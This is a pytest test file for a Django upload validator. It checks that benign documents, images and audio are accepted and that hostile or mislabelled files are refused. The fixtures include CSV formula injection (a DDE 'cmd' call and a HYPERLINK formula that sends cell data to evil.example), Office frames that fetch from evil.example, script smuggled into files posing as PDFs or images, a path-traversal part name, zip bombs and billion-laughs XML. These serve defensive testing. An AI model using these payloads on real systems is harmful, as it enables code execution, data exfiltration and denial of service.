"""What comes in as a file, and what does not."""

import io
from pathlib import Path

import pikepdf
import pytest
from django.core.exceptions import ValidationError
from django.core.files.uploadedfile import SimpleUploadedFile, TemporaryUploadedFile
from django.urls import reverse
from PIL import Image

from resources.files import checking
from resources.files.checking import validate_file
from resources.files.uploads import CappedUploadHandler
from resources.models import Edition
from tests.factories import MemberFactory, ResourceFactory
from tests.resources import hostile

HARMLESS = {
    "report.pdf": hostile.pdf,
    "REPORT.PDF": hostile.pdf,
    "note.docx": hostile.word,
    "table.xlsx": hostile.workbook,
    "talk.pptx": hostile.slides,
    "text.odt": hostile.open_document,
    "data.csv": lambda: "país;año\nTúnez;2024\n".encode("cp1252"),
    "map.png": lambda: hostile.image("PNG"),
    "chart.pptx": lambda: hostile.holding("Microsoft_Excel_Sheet.xlsx", hostile.workbook()),
    "linked.docx": lambda: hostile.relating("hyperlink", "https://www.ilo.org/"),
    "page.docx": lambda: hostile.asking(" PAGE ", " MERGEFORMAT "),
    "sums.csv": lambda: b"a,b\n-5,+1\n=SUM(A1:A2),a|b\n",
    "two.jpg": lambda: hostile.image("MPO", save_all=True, append_images=[Image.new("RGB", (40, 30))]),
    "photo.jpg": hostile.photo,
    "photo.jpeg": lambda: hostile.image("JPEG"),
    "talk.mp3": hostile.sound,
    "tagged.mp3": lambda: hostile.sound(tagged=True),
}

# Name, content, the code of the refusal.
HARMFUL = [
    ("page.pdf", lambda: b"<!doctype html>" + hostile.SCRIPT, "mislabelled"),
    ("polyglot.pdf", lambda: b"<html>" + hostile.SCRIPT + hostile.pdf(), "mislabelled"),
    ("picture.png", lambda: b'<svg xmlns="http://www.w3.org/2000/svg">' + hostile.SCRIPT + b"</svg>", "mislabelled"),
    ("data.csv", lambda: b"\xef\xbb\xbf<html>" + hostile.SCRIPT, "mislabelled"),
    ("late.csv", lambda: b"a,b\n1,2\n<script src=//evil.example></script>\n", "mislabelled"),
    ("binary.csv", lambda: b"a,b\n\x00\x01\x02", "mislabelled"),
    ("program.mp3", lambda: b"MZ\x90\x00" + b"\x00" * 200, "mislabelled"),
    ("drawing.svg", lambda: b"<svg/>", "type"),
    ("page.html", lambda: b"<html/>", "type"),
    ("nothing", lambda: b"x", "type"),
    ("table.docx", hostile.workbook, "mislabelled"),
    ("archive.docx", lambda: hostile.archive({"a.txt": b"a"}), "mislabelled"),
    ("picture.jpg", lambda: hostile.image("PNG"), "mislabelled"),
    ("picture.gif.png", lambda: hostile.image("GIF"), "mislabelled"),
    ("macros.docx", hostile.with_macros, "macros"),
    ("macros.odt", lambda: hostile.open_document(**{"Basic/Standard/Module1.xml": b"<m/>"}), "macros"),
    ("frame.docx", lambda: hostile.relating("frame", "https://evil.example/"), "fetching"),
    ("prefix.docx", lambda: hostile.relating("frame", "https://evil.example/", prefix="p"), "fetching"),
    ("letter.docx", lambda: hostile.relating("frame", "https://evil.example/", mode="Extern&#97;l"), "fetching"),
    ("utf16.docx", lambda: hostile.relating("frame", "https://evil.example/", encoding="utf-16"), "fetching"),
    ("no-mode.docx", lambda: hostile.relating("frame", "https://evil.example/", mode="Internal"), "fetching"),
    ("utf7.docx", lambda: hostile.relating("frame", "https://evil.example/", encoding="utf-7"), "active"),
    ("ole.docx", lambda: hostile.relating("oleObject", "embeddings/a.bin", mode="Internal"), "active"),
    ("page.docx", lambda: hostile.relating("aFChunk", "a.mht", mode="Internal"), "active"),
    ("program.pptx", lambda: hostile.holding("a.bin", b"MZ\x90\x00" * 9), "active"),
    ("old.pptx", lambda: hostile.holding("a.bin", b"\xd0\xcf\x11\xe0" * 9), "active"),
    ("archive.pptx", lambda: hostile.holding("a.bin", hostile.archive({"a": b"MZ"})), "active"),
    ("macros.pptx", lambda: hostile.holding("a.docx", hostile.with_macros()), "macros"),
    ("deep.pptx", lambda: hostile.holding("a.pptx", hostile.holding("b.xlsx", hostile.workbook())), "active"),
    ("fetches.pptx", lambda: hostile.holding("a.docx", hostile.relating("image", "https://evil.example/")), "fetching"),
    ("drawing.pptx", lambda: hostile.holding("a.svg", b"<svg onload='x()'/>"), "active"),
    ("starts.docx", lambda: hostile.asking(" DD", "EAUTO ", "cmd "), "fetching"),
    ("twice.docx", lambda: hostile.with_parts(hostile.word(), {"WORD/document.xml": b"<w/>"}), "broken"),
    ("data.xlsx", lambda: hostile.with_parts(hostile.workbook(), {"xl/connections.xml": b"<c/>"}), "fetching"),
    ("late.docx", hostile.laughing_late, "active"),
    (
        "event.odt",
        lambda: hostile.open_document(**{"content.xml": b'<a xmlns:x="s"><x:event-listener/></a>'}),
        "macros",
    ),
    ("dde.odt", lambda: hostile.open_document(**{"content.xml": b'<a xmlns:x="s"><x:dde-source/></a>'}), "fetching"),
    (
        "image.odt",
        lambda: hostile.open_document(**{"content.xml": b'<image href="https://evil.example"/>'}),
        "fetching",
    ),
    ("ole.odt", lambda: hostile.open_document(Object=b"\xd0\xcf\x11\xe0" * 9), "active"),
    ("dde.csv", lambda: b"a,b\n1,=cmd|' /C calc'!A0\n", "active"),
    ("sends.csv", lambda: b'a;b\n"=HYPERLINK(""https://evil.example?""&A1)";1\n', "active"),
    ("behind.mp3", lambda: hostile.sound() + hostile.archive({"Evil.class": b"x"}), "mislabelled"),
    ("before.mp3", lambda: b"ID3\x03\x00\x00\x00\x00\x01\x00%PDF-1.4" + b"\x00" * 120 + hostile.sound(), "mislabelled"),
    ("silent.mp3", lambda: b"ID3<html>" + hostile.SCRIPT * 9, "mislabelled"),
    ("external.xlsx", hostile.with_external_workbook, "fetching"),
    ("laughs.docx", hostile.laughing, "active"),
    ("slip.docx", lambda: hostile.with_parts(hostile.word(), {"../../etc/cron.d/x": b"x"}), "active"),
    ("nested.docx", hostile.nested_bomb, "active"),
    ("bomb.docx", hostile.bomb, "bomb"),
    ("parts.docx", hostile.of_many_parts, "bomb"),
    ("pixels.png", hostile.huge_picture, "bomb"),
    ("old.docx", lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 512, "encrypted"),
    ("broken.pdf", lambda: b"%PDF-1.7\n" + b"\x9c" * 500, "broken"),
    ("looping.pdf", hostile.looping, "broken"),
    ("cut.docx", lambda: hostile.word()[:-300], "broken"),
    ("cut.png", lambda: hostile.image("PNG", (400, 400))[:300], "broken"),
    ("empty.pdf", lambda: b"", "empty"),
]


def upload(name, content):
    return SimpleUploadedFile(name, content)


def encrypted_pdf():
    buffer = io.BytesIO()
    document = pikepdf.open(io.BytesIO(hostile.pdf()))
    document.save(buffer, encryption=pikepdf.Encryption(owner="o", user="u"))
    return buffer.getvalue()


@pytest.fixture
def edition(settings, tmp_path, db):
    settings.STORAGES = settings.STORAGES | {
        "default": {"BACKEND": "django.core.files.storage.FileSystemStorage", "OPTIONS": {"location": tmp_path}}
    }
    return Edition(resource=ResourceFactory(edition=False), language="en")


def stored(edition, name, content, **fields):
    edition.file = upload(name, content)
    for field, value in fields.items():
        setattr(edition, field, value)
    edition.save()
    with edition.file.open("rb") as opened:
        return opened.read()


@pytest.mark.parametrize("name", HARMLESS)
def test_files_of_every_format_come_in(name):
    validate_file(upload(name, HARMLESS[name]()))


@pytest.mark.parametrize(("name", "make", "code"), HARMFUL, ids=[name for name, _make, _code in HARMFUL])
def test_harmful_and_mislabelled_files_are_refused(name, make, code):
    with pytest.raises(ValidationError) as caught:
        validate_file(upload(name, make()))

    assert caught.value.code == code


def test_a_pdf_with_a_password_is_refused():
    with pytest.raises(ValidationError, match="has a password"):
        validate_file(upload("secret.pdf", encrypted_pdf()))


def test_a_file_that_is_too_large_is_refused_with_the_limit(settings):
    settings.UPLOAD_LIMITS = settings.UPLOAD_LIMITS | {"document": 1}

    with pytest.raises(ValidationError, match=r"The file has 1\.1.*MB\. Files of this type may have up to 1\.0"):
        validate_file(upload("data.csv", b"a,b\n" * 300_000))


def test_a_child_that_sleeps_is_ended_and_the_next_file_comes_in(monkeypatch):
    monkeypatch.setattr(checking, "SECONDS", 0.01)
    with pytest.raises(ValidationError) as caught:
        validate_file(upload("report.pdf", hostile.pdf()))
    assert caught.value.code == "bomb"

    monkeypatch.setattr(checking, "SECONDS", 60)
    validate_file(upload("report.pdf", hostile.pdf()))


def test_an_upload_that_is_too_large_for_any_file_does_not_fill_the_disk(settings):
    settings.UPLOAD_LIMITS = {"document": 1, "image": 1, "audio": 1}
    handler = CappedUploadHandler()
    handler.new_file("file", "talk.mp3", "audio/mpeg", None)
    for start in range(0, 3 * 1024**2, 64 * 1024):
        handler.receive_data_chunk(b"\x00" * 64 * 1024, start)

    upload = handler.file_complete(3 * 1024**2)

    assert Path(upload.temporary_file_path()).stat().st_size == 0
    with pytest.raises(ValidationError, match=r"The file has 3\.0.*MB\. Files of this type may have up to 1\.0"):
        validate_file(upload)
    upload.close()


def test_a_large_upload_is_looked_at_where_it_lies(edition):
    upload = TemporaryUploadedFile("report.pdf", "application/pdf", 0, None)
    upload.write(hostile.pdf(3))
    upload.size = upload.tell()
    upload.seek(0)
    edition.file = upload

    edition.save()

    with edition.file.open("rb") as opened, pikepdf.open(opened) as document:
        assert len(document.pages) == 3


def test_the_edition_knows_type_checksum_and_size_of_what_is_stored(edition):
    content = stored(edition, "note.docx", hostile.word())

    assert edition.mime_type.endswith("wordprocessingml.document")
    assert (len(edition.checksum), edition.size) == (64, len(content))


def test_a_program_that_stores_a_harmful_file_is_stopped_too(edition):
    edition.file = upload("macros.docx", hostile.with_macros())

    with pytest.raises(ValidationError):
        edition.save()

    assert not Edition.objects.exists()


def test_a_facilitator_reads_the_reason_beside_the_field(client, edition):
    client.force_login(MemberFactory(is_staff=True, is_superuser=True, language="es"))
    work, parts = edition.resource, ("placements", "creators", "relations")
    data = {
        "kind": "report", "title_en": "A report", "slug": work.slug, "access": "public",
        "editions-TOTAL_FORMS": "1", "editions-INITIAL_FORMS": "0",
        "editions-0-language": "en", "editions-0-kind": "original",
        "editions-0-file": upload("page.pdf", b"<html>" + hostile.SCRIPT),
        **{f"{name}-{part}_FORMS": "0" for name in parts for part in ("TOTAL", "INITIAL")},
    }  # fmt: skip

    response = client.post(reverse("admin:resources_resource_change", args=[work.pk]), data)

    assert response.status_code == 200
    assert "The content of the file does not fit its name." in response.content.decode()
    assert not work.editions.exists()
